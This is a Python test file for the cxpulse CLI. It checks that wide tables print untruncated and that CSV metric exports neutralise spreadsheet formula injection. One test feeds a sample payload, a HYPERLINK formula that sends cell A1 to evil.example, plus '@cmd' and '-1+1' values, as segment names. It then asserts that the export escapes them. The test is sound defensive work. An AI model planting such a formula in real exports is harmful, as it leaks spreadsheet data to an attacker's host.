"""Tables printed whole in a narrow terminal (numbers are never cut to "1…")."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

from rich.console import Console
from rich.table import Table
from typer.testing import CliRunner

from cxpulse import Workspace
from cxpulse.cli import render
from cxpulse.cli.app import app
from tests.conftest import add_rows


def test_a_wide_table_keeps_every_number_in_a_narrow_terminal() -> None:
    table = Table()
    for i in range(14):
        table.add_column(f"month_{i}")
    table.add_row(*(f"{90 + i / 10:.1f}" for i in range(14)))
    sink = io.StringIO()
    console = Console(file=sink, width=80)
    render.print_table(console, table)
    text = sink.getvalue()
    assert "…" not in text and all(f"{90 + i / 10:.1f}" in text for i in range(14))
    assert console.width == 80  # restored for what follows


def test_a_table_that_fits_is_printed_as_is() -> None:
    table = Table()
    table.add_column("metric")
    table.add_row("nps")
    sink = io.StringIO()
    render.print_table(Console(file=sink, width=80), table)
    assert max(len(line) for line in sink.getvalue().splitlines()) <= 80


def test_metric_csv_neutralises_a_formula_in_a_segment(tmp_path: Path) -> None:
    # the case: a segment value =HYPERLINK(...) ran as a formula in a spreadsheet;
    # numbers (a negative NPS) stay numbers
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    path = tmp_path / "ws.duckdb"
    with Workspace.init(path) as ws:
        rows = [
            {"score": s, "responded_at": datetime(2025, 4, 10), "touchpoint": t}
            for t in (evil, "@cmd", "-1+1", "support")
            for s in (0, 0, 0, 10)
        ]
        add_rows(ws, "survey_responses", rows)
    result = CliRunner().invoke(
        app, ["metric", "nps", "-w", str(path), "--segment", "touchpoint", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["touchpoint"] for r in table} == {"'" + evil, "'@cmd", "'-1+1", "support"}
    assert {r["value"] for r in table} == {"-50.0"}
